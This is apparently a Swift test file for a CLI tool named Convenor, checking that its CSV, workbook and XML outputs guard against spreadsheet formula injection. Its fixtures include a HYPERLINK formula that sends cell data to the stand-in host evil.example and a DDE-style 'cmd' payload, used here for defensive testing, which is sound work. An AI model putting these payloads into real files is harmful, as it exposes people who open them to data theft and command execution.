import ConvenorCore
import Foundation
import Testing
import ConvenorTestSupport

/// No text from any input reaches a spreadsheet as a formula (issue 19, OWASP "CSV injection").
@Suite("Spreadsheet-safe CSV", .serialized)
struct SpreadsheetSafetyTests {
    /// Initiative names as they are meant (after reading), by row of initiatives.csv (line = row + 2).
    static let hostileNames: [(raw: String, name: String)] = [
        (#""=HYPERLINK(""http://evil.example/?""&A1,""Click"")""#, #"=HYPERLINK("http://evil.example/?"&A1,"Click")"#),
        ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "@SUM(1+1)"),
        ("-2+3", "-2+3"),
        // Already guarded in the file: the name itself starts with '= (written ''= by Convenor).
        ("''=SUM(A1)", "'=SUM(A1)"),
        // A guarded cell: read as =1+2, no warning.
        ("'=1+2", "=1+2"),
        ("-3", "-3"),
        ("'quoted", "'quoted"),
    ]

    /// The Northbridge example with the first initiatives renamed to `hostileNames`.
    static func hostilePortfolio() throws -> URL {
        let dir = try CLIRunner.temporaryDirectory().appendingPathComponent("portfolio")
        try FileManager.default.copyItem(atPath: Security.exampleCSV, toPath: dir.path)
        let path = dir.appendingPathComponent("initiatives.csv")
        var records = Security.csvRecords(try String(contentsOf: path, encoding: .utf8))
        let header = Security.parseCSV(records[0] + "\n")[0]
        let nameColumn = try #require(header.firstIndex(of: "name"))
        #expect(nameColumn == 1)
        for (i, hostile) in hostileNames.enumerated() {
            // The id has no comma or quote, so the record's first comma ends it.
            let record = records[i + 1]
            let idEnd = try #require(record.firstIndex(of: ","))
            let rest = Security.parseCSV(String(record[record.index(after: idEnd)...]) + "\n")[0]
            // Put the raw hostile cell in place of the name and re-quote the other cells as they were.
            let others = rest.dropFirst().map { cell in
                cell.contains(where: { ",\"\n".contains($0) }) ? "\"" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : cell
            }
            records[i + 1] = ([String(record[..<idEnd]), hostile.raw] + others).joined(separator: ",")
        }
        try Data((records.joined(separator: "\n") + "\n").utf8).write(to: path)
        return dir
    }

    /// Every cell of every CSV file under `folder` that a spreadsheet would run as a formula.
    func formulaCells(under folder: URL) throws -> [String] {
        var found: [String] = []
        for (name, data) in try Security.tree(folder) where name.hasSuffix(".csv") {
            for (r, row) in Security.parseCSV(String(decoding: data, as: UTF8.self)).enumerated() {
                for cell in row where SpreadsheetCell.isFormulaLike(cell) { found.append("\(name):\(r + 1): \(cell)") }
            }
        }
        return found
    }

    @Test("validate warns [formula-like] at each unguarded formula-like cell, without quoting it")
    func validateWarns() throws {
        let portfolio = try Self.hostilePortfolio()
        defer { try? FileManager.default.removeItem(at: portfolio.deletingLastPathComponent()) }
        let run = try CLIRunner.run(["validate", portfolio.path])
        #expect(run.status == 0, "\(run.stderr)")
        let warnings = run.stderr.split(separator: "\n").filter { $0.contains("[formula-like]") }
        let file = portfolio.appendingPathComponent("initiatives.csv").path
        let text = "warning: [formula-like] the 'name' cell starts with a character (=, +, -, @, tab or carriage return) that makes a spreadsheet run it as a formula; Convenor reads it as text and writes it with a leading ' in every CSV, but check where this value came from"
        // The same warning in four rows of one column is printed once, with the other rows (issue 14).
        #expect(warnings.map(String.init) == ["\(file):2:2: \(text); the same in 3 more rows of column 'name' (lines 3, 4, 5)"])
        #expect(!run.stderr.contains("HYPERLINK"))
    }

    @Test("every CSV output guards formula-like names and leaves numbers alone",
          arguments: [["convert", "IN", "-o", "OUT"], ["overlap", "IN", "-o", "OUT"], ["register", "IN", "-o", "OUT"],
                      ["pack", "pilot-review", "--portfolio", "IN", "-o", "OUT"], ["demo", "--portfolio", "IN", "-o", "OUT"]])
    func outputsAreGuarded(_ shape: [String]) throws {
        let portfolio = try Self.hostilePortfolio()
        let dir = try CLIRunner.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir); try? FileManager.default.removeItem(at: portfolio.deletingLastPathComponent()) }
        let out = dir.appendingPathComponent("out")
        let run = try CLIRunner.run(shape.map { $0 == "IN" ? portfolio.path : $0 == "OUT" ? out.path : $0 })
        #expect(run.status == 0, "\(run.stderr)")
        let csvFiles = try Security.tree(out).keys.filter { $0.hasSuffix(".csv") }
        #expect(!csvFiles.isEmpty || shape[0] == "pack")
        let formulas = try formulaCells(under: out)
        #expect(formulas.isEmpty, "\(formulas.prefix(5))")
        if shape[0] == "register" || shape[0] == "convert" {
            let csv = String(decoding: try Data(contentsOf: out.appendingPathComponent(shape[0] == "register" ? "register.csv" : "initiatives.csv")), as: UTF8.self)
            #expect(csv.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""Click"")""#))
            #expect(csv.contains(",'+cmd|' /C calc'!A0,"))
            #expect(csv.contains(",''=SUM(A1),"))
            #expect(csv.contains(",-3,"))
        }
    }

    @Test("register.xlsx holds the names as inline strings, never as formulas")
    func workbookHasNoFormulas() throws {
        let portfolio = try Self.hostilePortfolio()
        let dir = try CLIRunner.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir); try? FileManager.default.removeItem(at: portfolio.deletingLastPathComponent()) }
        let out = dir.appendingPathComponent("out")
        #expect(try CLIRunner.run(["register", portfolio.path, "-o", out.path]).status == 0)
        let sheets = try Security.unzip(Data(contentsOf: out.appendingPathComponent("register.xlsx"))).filter { $0.0.hasPrefix("xl/worksheets/") }
        #expect(!sheets.isEmpty)
        for (name, data) in sheets {
            let xml = String(decoding: data, as: UTF8.self)
            #expect(!xml.contains("<f>") && !xml.contains("<f "), "\(name) holds a formula")
        }
        let all = sheets.map { String(decoding: $0.1, as: UTF8.self) }.joined()
        #expect(all.contains(#"t="inlineStr"><is><t xml:space="preserve">=HYPERLINK("http://evil.example/?"&amp;A1,"Click")</t>"#))
    }

    @Test("convert keeps every name byte for byte: CSV → CSV → XML → CSV")
    func roundTripKeepsNames() throws {
        let portfolio = try Self.hostilePortfolio()
        let dir = try CLIRunner.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir); try? FileManager.default.removeItem(at: portfolio.deletingLastPathComponent()) }
        let a = dir.appendingPathComponent("a").path, b = dir.appendingPathComponent("b").path
        let xml = dir.appendingPathComponent("p.xml").path, c = dir.appendingPathComponent("c").path
        for (input, output) in [(portfolio.path, a), (a, b), (b, xml), (xml, c)] {
            let run = try CLIRunner.run(["convert", input, "-o", output])
            #expect(run.status == 0, "\(input) → \(output): \(run.stderr)")
        }
        // Convenor's own CSV reads back to the same bytes, through the folder form and through XML.
        #expect(try Security.tree(URL(fileURLWithPath: a)) == Security.tree(URL(fileURLWithPath: b)))
        #expect(try Security.tree(URL(fileURLWithPath: a)) == Security.tree(URL(fileURLWithPath: c)))
        // The XML holds the names as they are meant, no guard characters.
        let text = try String(contentsOfFile: xml, encoding: .utf8)
        for hostile in Self.hostileNames {
            #expect(text.contains("name=\"\(escape(hostile.name, attribute: true))\""), "\(hostile.name) not in the XML")
        }
    }

    static var soffice: String? { Tools.soffice }

    /// Converts CSV files to .xlsx with LibreOffice (default CSV import options) and returns each sheet's
    /// XML with its shared strings.
    func libreOfficeSheets(_ files: [URL], in dir: URL) throws -> [(String, sheet: String, strings: String)] {
        let soffice = try #require(Self.soffice, "soffice is not on PATH")
        let converted = dir.appendingPathComponent("xlsx")
        let process = Process()
        process.executableURL = URL(fileURLWithPath: soffice)
        process.arguments = ["--headless", "-env:UserInstallation=file://\(dir.path)/lo-profile", "--convert-to", "xlsx",
                             "--outdir", converted.path] + files.map(\.path)
        process.standardOutput = FileHandle.nullDevice
        process.standardError = FileHandle.nullDevice
        try process.run()
        process.waitUntilExit()
        var sheets: [(String, sheet: String, strings: String)] = []
        for file in files {
            let xlsx = converted.appendingPathComponent(file.deletingPathExtension().lastPathComponent + ".xlsx")
            let entries = Dictionary(try Security.unzip(Data(contentsOf: xlsx)), uniquingKeysWith: { a, _ in a })
            sheets.append((file.lastPathComponent, String(decoding: entries["xl/worksheets/sheet1.xml"] ?? Data(), as: UTF8.self),
                           String(decoding: entries["xl/sharedStrings.xml"] ?? Data(), as: UTF8.self)))
        }
        return sheets
    }

    @Test("LibreOffice opens every CSV output's formula-like names as text, not as formulas",
          .needs(.libreOffice))
    func libreOfficeShowsText() throws {
        let portfolio = try Self.hostilePortfolio()
        let dir = try CLIRunner.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir); try? FileManager.default.removeItem(at: portfolio.deletingLastPathComponent()) }
        // The check can fail: an unguarded cell does become a formula in LibreOffice.
        let control = dir.appendingPathComponent("control.csv")
        try Data("name\n=1+2\n".utf8).write(to: control)
        let controlSheet = try libreOfficeSheets([control], in: dir)[0]
        #expect(controlSheet.sheet.contains("<f"), "LibreOffice did not make =1+2 a formula; the check below proves nothing")

        let demo = dir.appendingPathComponent("demo")
        #expect(try CLIRunner.run(["demo", "--portfolio", portfolio.path, "-o", demo.path]).status == 0)
        #expect(try CLIRunner.run(["convert", portfolio.path, "-o", demo.appendingPathComponent("converted").path]).status == 0)
        let csvFiles = try Security.tree(demo).keys.filter { $0.hasSuffix(".csv") && !$0.hasSuffix("contacts.csv") }.sorted()
            .map { demo.appendingPathComponent($0) }
        #expect(csvFiles.count >= 8)
        // Copies with distinct names: LibreOffice writes <stem>.xlsx into one folder.
        let flat = dir.appendingPathComponent("flat")
        try FileManager.default.createDirectory(at: flat, withIntermediateDirectories: true)
        let copies = try csvFiles.enumerated().map { i, url in
            let copy = flat.appendingPathComponent("\(i)-\(url.lastPathComponent)")
            try FileManager.default.copyItem(at: url, to: copy)
            return copy
        }
        var sawName = 0
        for (name, sheet, strings) in try libreOfficeSheets(copies, in: dir) {
            #expect(!sheet.contains("<f"), "\(name): LibreOffice read a formula")
            if strings.contains("&apos;=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)") { sawName += 1 }
        }
        // The name is in the portfolio's initiatives.csv, the register and the overlap tables.
        #expect(sawName >= 3)
    }
}
